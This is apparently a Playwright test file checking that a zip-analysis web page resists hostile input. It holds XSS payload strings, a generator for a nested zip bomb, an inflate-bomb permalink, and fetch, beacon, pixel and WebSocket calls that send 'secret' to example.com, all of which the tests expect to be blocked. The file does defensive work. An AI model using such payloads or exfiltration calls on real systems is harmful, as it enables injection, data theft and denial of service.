// The page under hostile input (issue 6): the Content-Security-Policy keeps every byte in the
// tab, names holding HTML render as text, and broken or crafted archives end in a clear message
// naming the file while the page stays usable; so do permalinks, which anyone can craft. The
// archives are made here, from the committed fixture warehouses, by a tiny zip reader/writer
// (entries are copied raw, renamed or added).
import { test, expect } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { deflateRawSync, inflateRawSync } from 'node:zlib';

const fixture = (name) =>
  fileURLToPath(new URL(`../fixtures/warehouses/${name}`, import.meta.url));

// ---- A tiny zip reader and writer -------------------------------------------------------------

const CRC_TABLE = (() => {
  const t = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c >>> 0;
  }
  return t;
})();

function crc32(buf) {
  let c = 0xffffffff;
  for (let i = 0; i < buf.length; i++) c = CRC_TABLE[(c ^ buf[i]) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

// The entries of a (non-ZIP64) zip: name, method, crc, sizes and the raw (compressed) bytes.
function readZip(buf) {
  let eocd = -1;
  for (let i = buf.length - 22; i >= Math.max(0, buf.length - 65_557); i--) {
    if (buf.readUInt32LE(i) === 0x06054b50) {
      eocd = i;
      break;
    }
  }
  if (eocd < 0) throw new Error('no end of central directory');
  const count = buf.readUInt16LE(eocd + 10);
  let p = buf.readUInt32LE(eocd + 16);
  const entries = [];
  for (let i = 0; i < count; i++) {
    if (buf.readUInt32LE(p) !== 0x02014b50) throw new Error('bad central directory');
    const method = buf.readUInt16LE(p + 10);
    const crc = buf.readUInt32LE(p + 16);
    const compSize = buf.readUInt32LE(p + 20);
    const size = buf.readUInt32LE(p + 24);
    const nameLen = buf.readUInt16LE(p + 28);
    const extraLen = buf.readUInt16LE(p + 30);
    const commentLen = buf.readUInt16LE(p + 32);
    const local = buf.readUInt32LE(p + 42);
    const name = buf.subarray(p + 46, p + 46 + nameLen).toString('utf8');
    const start = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28);
    entries.push({ name, method, crc, size, data: buf.subarray(start, start + compSize) });
    p += 46 + nameLen + extraLen + commentLen;
  }
  return entries;
}

// An entry holding `content` (string or Buffer), deflated unless `stored`.
function entry(name, content, { stored = false } = {}) {
  const raw = Buffer.isBuffer(content) ? content : Buffer.from(content, 'utf8');
  return {
    name,
    method: stored ? 0 : 8,
    crc: crc32(raw),
    size: raw.length,
    data: stored ? raw : deflateRawSync(raw, { level: 9 }),
  };
}

// A zip of the entries (UTF-8 names, flag bit 11), with a fixed date.
function writeZip(entries) {
  const locals = [];
  const centrals = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50, 0);
    head.writeUInt16LE(20, 4);
    head.writeUInt16LE(0x0800, 6);
    head.writeUInt16LE(e.method, 8);
    head.writeUInt16LE(0, 10);
    head.writeUInt16LE(0x5b21, 12);
    head.writeUInt32LE(e.crc, 14);
    head.writeUInt32LE(e.data.length, 18);
    head.writeUInt32LE(e.size, 22);
    head.writeUInt16LE(name.length, 26);
    head.writeUInt16LE(0, 28);
    const cen = Buffer.alloc(46);
    cen.writeUInt32LE(0x02014b50, 0);
    cen.writeUInt16LE(20, 4);
    cen.writeUInt16LE(20, 6);
    cen.writeUInt16LE(0x0800, 8);
    cen.writeUInt16LE(e.method, 10);
    cen.writeUInt16LE(0, 12);
    cen.writeUInt16LE(0x5b21, 14);
    cen.writeUInt32LE(e.crc, 16);
    cen.writeUInt32LE(e.data.length, 20);
    cen.writeUInt32LE(e.size, 24);
    cen.writeUInt16LE(name.length, 28);
    cen.writeUInt32LE(e.name.endsWith('/') ? 0x10 : 0, 38);
    cen.writeUInt32LE(offset, 42);
    locals.push(head, name, e.data);
    centrals.push(cen, name);
    offset += 30 + name.length + e.data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

// ---- The archives -----------------------------------------------------------------------------

const IMG = '<img src=x onerror=window.__pwned=1>';
const SCRIPT = '<script>window.__pwned=1</script>';
const JS_URL = 'javascript:window.__pwned=1';
const SVG = '<svg onload=window.__pwned=1>';
const MD_LINK = '[click me](javascript:window.__pwned=1)';

// java09_e (a table with a tag, a branch with a tag, changelog files) moved under a table path
// made of hostile names, its branch and tag renamed, and consumers with hostile ids added.
const HOSTILE_ROOT = `${JS_URL}/db.db/${IMG}/${SCRIPT}`;
const HOSTILE_BRANCH = `${IMG.replace('__pwned=1', '__pwned=2')}`;
const HOSTILE_TAG = `${SVG}`;
const HOSTILE_CONSUMERS = [IMG, JS_URL, MD_LINK, SVG];

function hostileNamesZip() {
  const src = readZip(readFileSync(fixture('java09_e_expire_changelog_tag_branch.zip')));
  const from = 'java09_e_expire_changelog_tag_branch/db.db/retained';
  const out = [];
  for (const e of src) {
    if (!e.name.startsWith(`${from}/`)) continue;
    let name = HOSTILE_ROOT + e.name.slice(from.length);
    name = name.replace('/branch/branch-b1/', `/branch/branch-${HOSTILE_BRANCH}/`);
    name = name.replace(/\/tag\/tag-t4$/, `/tag/tag-${HOSTILE_TAG}`);
    out.push({ ...e, name });
  }
  // The main branch is at snapshot 12: two consumers are at it, two ahead of it (findings).
  HOSTILE_CONSUMERS.forEach((id, i) => {
    const next = i % 2 === 0 ? 12 : 99;
    out.push(entry(`${HOSTILE_ROOT}/consumer/consumer-${id}`, `{"nextSnapshot":${next}}`, { stored: true }));
  });
  return writeZip(out);
}

// A zip of `count` copies of `inner`, each stored under its own name, and `extra` entries.
function zipOfZips(inner, count, prefix, extra = []) {
  return writeZip([
    ...Array.from({ length: count }, (_, i) => entry(`${prefix}-${i}.zip`, inner, { stored: true })),
    ...extra,
  ]);
}

// Zip-bomb-like: zips inside zips six deep (beyond the nesting limit), fanning out four ways on
// each of the upper three levels, the deepest and each second-level zip holding 64 MiB of zeros
// deflated to about 64 KiB (16 copies reachable: 1 GiB if inflated without limits).
function nestedBombZip() {
  const zeros = entry('zeros.bin', Buffer.alloc(64 << 20));
  let level = writeZip([zeros]);
  for (let depth = 6; depth >= 1; depth--) {
    level = zipOfZips(level, depth <= 3 ? 4 : 1, `level${depth}`, depth === 2 ? [zeros] : []);
  }
  return level;
}

// ---- Page helpers -----------------------------------------------------------------------------

// Every request of the page and its workers that reached the network for another origin (and
// was stopped here). A request the Content-Security-Policy blocks never gets this far: Chromium
// fails it with "csp" before routing, so it is not counted.
async function watchForeign(context, baseURL) {
  const origin = new URL(baseURL).origin;
  const foreign = [];
  await context.route(
    (url) => !['data:', 'blob:'].includes(url.protocol) && url.origin !== origin,
    (route) => {
      foreign.push(`${route.request().method()} ${route.request().url()}`);
      return route.abort('blockedbyclient');
    },
  );
  return foreign;
}

async function upload(page, name, buffer) {
  await page.getByTestId('artifact-input').setInputFiles({
    name,
    mimeType: 'application/zip',
    buffer,
  });
}

// Waits for the analysis of `name` to end; returns its outcome's text ('error' or 'verdict').
async function outcome(page) {
  const done = page.locator('[data-testid=error], [data-testid=verdict]');
  await expect(done).toBeVisible({ timeout: 60_000 });
  await expect(page.getByTestId('progress')).toHaveCount(0);
  const kind = (await page.getByTestId('error').count()) ? 'error' : 'verdict';
  return { kind, text: await page.locator('main').innerText() };
}

// The page still answers (a click, a script round trip) and analyses a real warehouse.
async function stillWorks(page) {
  expect(await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => r(1))))).toBe(1);
  await page.getByTestId('artifact-input').setInputFiles(fixture('java09_b_consumer.zip'));
  await expect(page.getByTestId('verdict')).toBeVisible({ timeout: 60_000 });
  await expect(page.locator('[data-table-path$="db.db/events"]')).toHaveCount(1);
  await expect(page.getByTestId('error')).toHaveCount(0);
}

// Names may appear in text and in inert attributes (data-*, title, aria-*); never as markup,
// an event handler, or a URL or style the browser would act on. Waits for any injected handler
// (an image error, an svg load) to have had its chance, checks, and returns the page's text.
async function expectInert(page) {
  await page.waitForTimeout(500);
  const dom = await page.evaluate(() => {
    const app = document.getElementById('app');
    const all = [...app.querySelectorAll('*')];
    const ACTIVE = /^(href|xlink:href|src|srcset|srcdoc|action|formaction|style|background|poster|data)$/i;
    const show = (el) => el.outerHTML.slice(0, 160);
    return {
      pwned: window.__pwned,
      handlers: all.filter((el) => [...el.attributes].some((a) => /^on/i.test(a.name))).map(show),
      markup: [...app.querySelectorAll('script, iframe, object, embed, img[src="x"]')].map(show),
      active: all
        .filter((el) =>
          [...el.attributes].some(
            (a) => ACTIVE.test(a.name) && /pwned|javascript:/i.test(a.value),
          ),
        )
        .map(show),
      text: app.textContent,
    };
  });
  expect(dom.pwned).toBeUndefined();
  expect(dom.handlers).toEqual([]);
  expect(dom.markup).toEqual([]);
  expect(dom.active).toEqual([]);
  return dom;
}

// ---- (a) The Content-Security-Policy ----------------------------------------------------------

test('the Content-Security-Policy forbids connections to other origins', async ({
  page,
  context,
  baseURL,
}) => {
  const foreign = await watchForeign(context, baseURL);
  await page.goto('./');

  const csp = await page.evaluate(
    () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content ?? '',
  );
  const directives = Object.fromEntries(
    csp
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...values]) => [name, values]),
  );
  expect(directives['default-src']).toEqual(["'self'"]);
  expect(directives['connect-src']).toEqual(["'self'"]);
  for (const d of ['img-src', 'script-src', 'worker-src', 'font-src', 'style-src']) {
    for (const v of directives[d] ?? directives['default-src']) {
      expect(v, `${d} allows ${v}`).toMatch(/^('self'|'unsafe-inline'|'wasm-unsafe-eval'|data:|blob:)$/);
    }
  }
  expect(directives['object-src']).toEqual(["'none'"]);
  expect(directives['form-action']).toEqual(["'none'"]);

  const outcomes = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }),
    );
    let fetched;
    try {
      await fetch('https://example.com/collect?d=secret', { method: 'POST', body: 'secret' });
      fetched = 'sent';
    } catch (e) {
      fetched = `blocked: ${e.name}`;
    }
    const image = await new Promise((resolve) => {
      const img = new Image();
      img.onload = () => resolve('loaded');
      img.onerror = () => resolve('blocked');
      img.src = 'https://example.com/pixel.png?d=secret';
    });
    let beacon;
    try {
      beacon = navigator.sendBeacon('https://example.com/beacon', 'secret') ? 'queued' : 'refused';
    } catch (e) {
      beacon = `blocked: ${e.name}`;
    }
    let socket;
    try {
      const ws = new WebSocket('wss://example.com/socket');
      socket = await new Promise((resolve) => {
        ws.onopen = () => resolve('open');
        ws.onerror = () => resolve('blocked');
      });
    } catch (e) {
      socket = `blocked: ${e.name}`;
    }
    // Violation events are dispatched asynchronously: wait for the four (at most 10 s).
    for (let waited = 0; violations.length < 4 && waited < 10_000; waited += 100) {
      await new Promise((r) => setTimeout(r, 100));
    }
    return { fetched, image, beacon, socket, violations };
  });
  expect(outcomes.fetched).toMatch(/^blocked/);
  expect(outcomes.image).toBe('blocked');
  expect(outcomes.socket).toMatch(/^blocked/);
  const blocked = outcomes.violations.map((v) => `${v.directive} ${v.blocked}`);
  expect(blocked.some((b) => b.startsWith('connect-src https://example.com/collect'))).toBe(true);
  expect(blocked.some((b) => b.startsWith('img-src https://example.com/pixel.png'))).toBe(true);
  expect(blocked.some((b) => b.startsWith('connect-src https://example.com/beacon'))).toBe(true);
  expect(blocked.some((b) => b.startsWith('connect-src wss://example.com/socket'))).toBe(true);
  expect(foreign).toEqual([]);
});

// ---- (b) Hostile names render inert -----------------------------------------------------------

// The page's CSP is a <meta> tag; a worker loaded from its own URL would not inherit it (a
// static host sends its script without a policy), so the page starts the worker from a blob:
// bootstrap, which does. Whatever runs in the worker (it holds the artifact's bytes) is bound too.
test('the analysis worker cannot connect to another origin either', async ({ page, context }) => {
  const left = [];
  await context.route(/example\.com/, (route) => {
    left.push(route.request().url());
    return route.abort('blockedbyclient');
  });
  const probes = [];
  page.on('worker', (w) => {
    probes.push(
      w
        .evaluate(() =>
          fetch('https://example.com/from-worker?d=secret').then(
            () => 'sent',
            (e) => `failed: ${e.message}`,
          ),
        )
        .catch((e) => `worker gone: ${e.message}`),
    );
  });
  await page.goto('./');
  await page.getByTestId('artifact-input').setInputFiles(fixture('java09_e_expire_changelog_tag_branch.zip'));
  await expect(page.getByTestId('verdict')).toBeVisible({ timeout: 60_000 });
  const outcomes = await Promise.all(probes);
  expect(probes.length).toBeGreaterThan(0);
  expect(outcomes).not.toContain('sent');
  expect(left, 'a request from the worker reached the network').toEqual([]);
});

test('names holding HTML and javascript: URLs render as text and never run', async ({
  page,
  context,
  baseURL,
}) => {
  const foreign = await watchForeign(context, baseURL);
  const dialogs = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    d.dismiss();
  });
  await page.goto('./');
  await upload(page, 'hostile-names.zip', hostileNamesZip());
  const { kind } = await outcome(page);
  expect(kind).toBe('verdict');

  // The table, named by its hostile path, as text (a heading) and as attribute values; the
  // branch and each consumer by their hostile names. (Where exactly the page shows them is the
  // page's business: these look for the names, not for particular markup.)
  const tables = page.locator('[data-table-path]');
  await expect(tables.first()).toBeVisible();
  for (const t of await tables.all()) {
    expect(await t.getAttribute('data-table-path')).toBe(HOSTILE_ROOT);
  }
  await expect(page.getByText(HOSTILE_ROOT, { exact: true }).first()).toBeVisible();
  for (const id of HOSTILE_CONSUMERS) {
    const row = page.locator(`[data-consumer-row="${id}"]`).first();
    await expect(row).toContainText(id);
  }
  const ahead = page.locator('[data-finding-code="consumer-ahead"]');
  await expect(ahead).toHaveCount(2);
  await expect(ahead.filter({ hasText: `Consumer ${SVG} expects` })).toHaveCount(1);
  await expect(ahead.filter({ hasText: `Consumer ${JS_URL} expects` })).toHaveCount(1);

  const dom = await expectInert(page);
  expect(dom.text).toContain(IMG);
  expect(dom.text).toContain(SCRIPT);
  expect(dom.text).toContain(MD_LINK);
  expect(dom.text).toContain(HOSTILE_BRANCH);
  expect(dialogs).toEqual([]);
  expect(foreign).toEqual([]);
});

// ---- (c) Broken and crafted archives ----------------------------------------------------------

const healthy = () => readFileSync(fixture('java09_a_healthy_pk.zip'));

const BROKEN = [
  {
    what: 'a file that is not a zip',
    name: 'not-a-zip.zip',
    bytes: () => Buffer.from('PK\u0003\u0004 is how it starts, but this is only text.\n'.repeat(40)),
    says: /central directory|not a zip/i,
  },
  { what: 'an empty file', name: 'empty.zip', bytes: () => Buffer.alloc(0), says: /too short|empty|not a zip/i },
  {
    what: 'a truncated zip (its central directory cut off)',
    name: 'truncated.zip',
    bytes: () => {
      const b = healthy();
      return b.subarray(0, Math.floor(b.length * 0.6));
    },
    says: /central directory|truncated/i,
    // Analysed as far as it goes: the entries before the cut, recovered from their local headers.
    verdict: /^warn$/,
    finding: /cut short/,
  },
  {
    what: 'a zip whose last bytes were lost (end record cut in half)',
    name: 'cut-end.zip',
    bytes: () => {
      const b = healthy();
      return b.subarray(0, b.length - 11);
    },
    says: /central directory|truncated|end/i,
    // Every entry comes back from the local headers: the healthy table passes, with a note.
    verdict: /^pass$/,
    finding: /every entry was recovered/,
  },
];

for (const { what, name, bytes, says, verdict = /^(warn|fail)$/, finding } of BROKEN) {
  test(`${what} ends in a clear message naming it, and the page stays usable`, async ({
    page,
    context,
    baseURL,
  }) => {
    const foreign = await watchForeign(context, baseURL);
    const errors = [];
    page.on('pageerror', (err) => errors.push(String(err)));
    await page.goto('./');
    await upload(page, name, bytes());
    const { kind, text } = await outcome(page);
    expect(text).toContain(name);
    if (kind === 'verdict') {
      // Read as an artifact with problems: the verdict says so with a finding.
      await expect(page.getByTestId('verdict')).toHaveAttribute('data-verdict', verdict);
      const first = page.locator('.artifact-findings [data-finding-code]').first();
      await expect(first).toBeVisible();
      if (finding) await expect(first).toContainText(finding);
    } else {
      // The message names the file and says what is wrong with it.
      const message = await page.getByTestId('error').innerText();
      expect(message).toContain(name);
      expect(message).toMatch(says);
    }
    await stillWorks(page);
    expect(errors).toEqual([]);
    expect(foreign).toEqual([]);
  });
}

test('a zip-bomb-like nested zip ends fast in a message naming the limit, and the page stays usable', async ({
  page,
  context,
  baseURL,
}) => {
  const foreign = await watchForeign(context, baseURL);
  const errors = [];
  page.on('pageerror', (err) => errors.push(String(err)));
  await page.goto('./');
  const bomb = nestedBombZip();
  expect(bomb.length).toBeLessThan(8 << 20);
  const started = Date.now();
  await upload(page, 'nested-bomb.zip', bomb);
  // The analysis runs off the main thread: the page answers at once while it works.
  const tick = Date.now();
  await page.evaluate(() => new Promise((r) => requestAnimationFrame(r)));
  expect(Date.now() - tick).toBeLessThan(2_000);
  const { kind, text } = await outcome(page);
  expect(Date.now() - started).toBeLessThan(60_000);
  expect(text).toContain('nested-bomb.zip');
  // The nesting limit is met on the way down and named, with the nested zip's path: as a finding
  // or as the error that ends the analysis.
  if (kind === 'verdict') {
    await expect(page.getByTestId('verdict')).toHaveAttribute('data-verdict', /^(warn|fail)$/);
    await expect(page.locator('[data-finding-code]').filter({ hasText: 'level1-' }).first()).toBeVisible();
  } else {
    const message = await page.getByTestId('error').innerText();
    expect(message).toContain('level1-0.zip');
    expect(message).toMatch(/nest/i);
    expect(message).toMatch(/max-nesting|limit/);
  }
  await stillWorks(page);
  expect(errors).toEqual([]);
  expect(foreign).toEqual([]);
});

// ---- (d) Permalinks: a report in the URL, made by anyone -------------------------------------

const HASH_KEY = '#report=';
const toLink = (json) =>
  HASH_KEY + deflateRawSync(Buffer.from(json, 'utf8'), { level: 9 }).toString('base64url');
const fromLink = (url) =>
  inflateRawSync(Buffer.from(new URL(url).hash.slice(HASH_KEY.length), 'base64url')).toString('utf8');

// The page's own permalink of the hostile-names archive's report.
async function hostileReportJson(page, context, baseURL) {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(baseURL).origin });
  await page.goto('./');
  await upload(page, 'hostile-names.zip', hostileNamesZip());
  await expect(page.getByTestId('verdict')).toBeVisible({ timeout: 60_000 });
  await page.getByTestId('permalink').click();
  await expect(page).toHaveURL(/#report=/);
  return fromLink(page.url());
}

test('a permalink carrying hostile names renders them inert', async ({ page, context, baseURL }) => {
  const foreign = await watchForeign(context, baseURL);
  const json = await hostileReportJson(page, context, baseURL);
  expect(json).toContain(IMG);
  // Made by hand: the names in places the page's own report would not put them too.
  const report = JSON.parse(json);
  report.input.name = `${IMG}${SCRIPT}`;
  const other = await context.newPage();
  await other.goto(`./${toLink(JSON.stringify(report))}`);
  await expect(other.getByTestId('verdict')).toBeVisible({ timeout: 60_000 });
  await expect(other.getByText(HOSTILE_ROOT, { exact: true }).first()).toBeVisible();
  const dom = await expectInert(other);
  expect(dom.text).toContain(IMG);
  expect(dom.text).toContain(SCRIPT);
  expect(foreign).toEqual([]);
});

test('a damaged or hostile permalink says so, and the page stays usable', async ({
  page,
  context,
  baseURL,
}) => {
  const foreign = await watchForeign(context, baseURL);
  const errors = [];
  page.on('pageerror', (err) => errors.push(String(err)));
  const cases = [
    ['not base64', `${HASH_KEY}%%%not*base64%%%`],
    ['not deflate', `${HASH_KEY}${Buffer.from('just some bytes, not deflate').toString('base64url')}`],
    ['not JSON', toLink('<img src=x onerror=window.__pwned=1>')],
    ['JSON that is no report', toLink('{"verdict":"<img src=x onerror=window.__pwned=1>"}')],
    // 300 MiB of spaces deflate to ~300 KiB: past the link's 256 MiB inflate limit.
    ['an inflate bomb', HASH_KEY + deflateRawSync(Buffer.alloc(300 << 20, 0x20), { level: 9 }).toString('base64url')],
  ];
  for (const [what, hash] of cases) {
    await page.goto('about:blank');
    await page.goto(`./${hash}`);
    const started = Date.now();
    await expect(page.getByTestId('error'), what).toBeVisible({ timeout: 60_000 });
    await expect(page.getByTestId('error'), what).toContainText('link');
    expect(Date.now() - started, what).toBeLessThan(30_000);
    await expectInert(page);
  }
  await stillWorks(page);
  expect(errors).toEqual([]);
  expect(foreign).toEqual([]);
});

// Thousands of findings (here 1,000 consumers ahead of the table, each an error) must not make
// the page draw them all at once: long lists are drawn 200 at a time behind "Show more".
test('an artifact with a thousand findings draws them in pages', async ({ page }) => {
  const src = readZip(readFileSync(fixture('java09_b_consumer.zip')));
  const out = [...src];
  for (let i = 0; i < 1000; i++) {
    out.push(entry(`java09_b_consumer/db.db/events/consumer/consumer-c${i}`, '{"nextSnapshot":99}', { stored: true }));
  }
  await page.goto('./');
  await upload(page, 'many-consumers.zip', writeZip(out));
  await expect(page.getByTestId('verdict')).toHaveAttribute('data-verdict', 'fail', { timeout: 120_000 });
  const errors = page.locator('[data-severity-group=error] li.finding');
  await expect(errors).toHaveCount(200);
  await expect(page.locator('li.finding[data-finding-code=consumer-ahead]').first()).toBeVisible();
  await expect(page.locator('[data-consumer-row]')).toHaveCount(200);
  const more = page.locator('[data-severity-group=error] [data-testid=show-more]');
  await expect(more).toContainText(/\(200 of 10\d\d shown\)/);
  await more.click();
  await expect(errors).toHaveCount(400);
});
